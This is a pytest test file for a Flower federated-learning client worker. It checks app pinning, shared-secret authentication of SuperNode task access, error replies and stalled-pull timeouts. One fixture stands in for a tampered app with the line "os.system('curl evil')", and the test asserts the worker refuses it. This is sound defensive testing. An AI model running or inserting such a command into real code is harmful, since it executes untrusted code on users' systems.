"""The warm round worker: it alone takes its SuperNode's tasks, answers them with the round code, and pins the app."""

from __future__ import annotations

import hashlib
import io
import subprocess
import time
import zipfile

import httpx
import numpy as np
import pytest
from flwr.app import Array, ArrayRecord, Context, Message, RecordDict
from flwr.proto.runtime_pb2 import AcquireTaskRequest  # pylint: disable=no-name-in-module
from flwr.supercore.interceptors import RuntimeVersionHttpInterceptor
from flwr.supercore.interceptors.http.superexec_auth import SuperExecAuthHttpInterceptor
from flwr.supercore.retry import make_simple_http_retry_invoker
from flwr.supercore.runtime import RuntimeHttpClient
from flwr.supercore.task_identity import TaskIdentity

import client.worker as worker
from client.app_pin import CODE_ROOT
from client.daemon import supernode_command
from client.worker import ACQUIRE, RoundWorker
from shared_model.packing import PACKED
from shared_model.processes import free_port


def _fab(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _unpackable(node: int = 1) -> tuple[Message, Context]:
    """An evaluate message the round code refuses before anything runs (packed arrays without their layout)."""
    TaskIdentity.task_id, TaskIdentity.run_id, TaskIdentity.node_id = 1, 1, node  # as pulling a task sets them
    context = Context(run_id=1, node_id=node, node_config={"partition-id": 0, "num-partitions": 2,
                                                           "merchant-name": "m"}, state=RecordDict(), run_config={})
    msg = Message(content=RecordDict({"arrays": ArrayRecord({PACKED: Array(np.zeros(8, np.uint8))})}),
                  message_type="evaluate", dst_node_id=node)
    return msg, context


OURS = _fab({"pyproject.toml": (CODE_ROOT / "pyproject.toml").read_bytes(),
             "client/rounds.py": (CODE_ROOT / "client" / "rounds.py").read_bytes()})


def test_our_own_app_is_answered_by_the_round_code():
    msg, context = _unpackable()
    reply = RoundWorker("127.0.0.1:1", b"k" * 32).answer(msg, context, OURS)
    assert not reply.has_error()
    assert "do not unpack" in str(reply.content.config_records["merchant"]["refused"])
    assert not reply.content.metric_records and not reply.content.array_records


def test_a_run_whose_app_differs_gets_an_error_reply_and_no_round_code_runs(monkeypatch):
    ran = []
    monkeypatch.setattr(worker, "handle", lambda *args: ran.append(args))
    theirs = _fab({"pyproject.toml": (CODE_ROOT / "pyproject.toml").read_bytes(),
                   "client/rounds.py": b"import os; os.system('curl evil')\n"})
    msg, context = _unpackable()
    reply = RoundWorker("127.0.0.1:1", b"k" * 32).answer(msg, context, theirs)
    assert reply.has_error() and "refused the run's app" in reply.error.reason and "client/rounds.py" in reply.error.reason
    assert ran == []


def test_the_round_code_raising_is_an_error_reply_and_the_worker_stays(monkeypatch):
    def broken(msg, context):
        raise RuntimeError("disk full")

    monkeypatch.setattr(worker, "handle", broken)
    msg, context = _unpackable()
    round_worker = RoundWorker("127.0.0.1:1", b"k" * 32)
    reply = round_worker.answer(msg, context, OURS)
    assert reply.has_error() and "RuntimeError: disk full" in reply.error.reason
    assert round_worker.accepted_fabs == {hashlib.sha256(OURS).hexdigest()}  # the app was fine; only this failed


def test_an_empty_secret_is_refused():
    with pytest.raises(ValueError, match="shared secret"):
        RoundWorker("127.0.0.1:1", b"")


def _acquire(port: int, secret: bytes | None):
    """AcquireTask at the SuperNode's Runtime API; the HTTP error when refused or not up."""
    retry = make_simple_http_retry_invoker()
    retry.should_giveup = lambda exc: True  # Flower's own gives up by interrupting this process
    interceptors = [RuntimeVersionHttpInterceptor(component_name="SuperExec")]
    if secret is not None:
        interceptors.append(SuperExecAuthHttpInterceptor(master_secret=secret, protected_methods={ACQUIRE}))
    client = RuntimeHttpClient.from_server_address(server_address=f"127.0.0.1:{port}", insecure=True,
                                                   root_certificates=None, interceptors=interceptors,
                                                   retry_invoker=retry)
    try:
        return client.AcquireTask(AcquireTaskRequest(supported_task_types=["flwr-clientapp"]))
    except httpx.HTTPError as exc:  # refused, or not listening yet
        return exc
    finally:
        client.close()


@pytest.mark.processes
def test_only_the_holder_of_the_secret_may_take_a_supernodes_tasks(tmp_path):
    """The daemon's SuperNode command, started for real: its tasks go to whoever shows the secret, nobody else."""
    secret = tmp_path / "secret"
    secret.write_bytes(b"s" * 32)
    port = free_port()
    # no SuperLink answers at this address: the SuperNode retries it while its Runtime API serves
    cmd = supernode_command(superlink="127.0.0.1:9", node_config={"merchant-name": "m"}, root_certificates=None,
                            auth_key=None, clientapp_port=port, worker_secret=secret)
    assert cmd[cmd.index("--host") + 1] == "127.0.0.1" and cmd[cmd.index("--isolation") + 1] == "process"
    process = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=CODE_ROOT)
    try:
        deadline = time.time() + 60
        while isinstance(answer := _acquire(port, secret.read_bytes()), Exception) and time.time() < deadline:
            time.sleep(0.3)  # still starting
        assert not isinstance(answer, Exception) and not answer.HasField("task")  # taken: none pending yet
        for wrong in (b"w" * 32, None):
            refused = _acquire(port, wrong)
            assert isinstance(refused, httpx.HTTPStatusError) and refused.response.status_code == 401
    finally:
        process.terminate()
        process.wait(timeout=10)


class _StalledSuperNode:
    """A Runtime API whose task message never gets its objects (the SuperLink died while the SuperNode pulled it)."""

    def __init__(self):
        from flwr.common.serde import context_to_proto
        from flwr.proto.fab_pb2 import Fab  # pylint: disable=no-name-in-module
        from flwr.proto.message_pb2 import ObjectTree, PullObjectResponse  # pylint: disable=no-name-in-module
        from flwr.proto.run_pb2 import Run  # pylint: disable=no-name-in-module
        from flwr.proto.runtime_pb2 import (  # pylint: disable=no-name-in-module
            PullAppMessagesResponse,
            PullTaskInputResponse,
        )

        context = Context(run_id=7, node_id=3, node_config={}, state=RecordDict(), run_config={})
        self.task = PullTaskInputResponse(context=context_to_proto(context), run=Run(run_id=7), fab=Fab(),
                                          task_id=11)
        self.messages = PullAppMessagesResponse(message_object_trees=[ObjectTree(object_id="ab" * 32)])
        self.messages.messages_list.add()
        self.unavailable = PullObjectResponse(object_found=True, object_available=False)
        self.pulls = 0

    def PullTaskInput(self, request):
        return self.task

    def PullMessages(self, request):
        return self.messages

    def PullObject(self, request):
        self.pulls += 1
        return self.unavailable

    def ConfirmMessageReceived(self, request):
        raise AssertionError("nothing arrived to confirm")


def test_a_message_whose_objects_never_arrive_is_given_up_and_the_worker_moves_on():
    from flwr.supercore.inflatable.inflatable_utils import ObjectPullError

    from client.worker import pull_task_input

    stalled = _StalledSuperNode()
    started = time.monotonic()
    with pytest.raises(ObjectPullError, match="timeout"):
        pull_task_input(stalled, max_time=1.0)
    assert time.monotonic() - started < 10 and stalled.pulls >= 2  # it retried, then gave up (Flower: 2 hours)
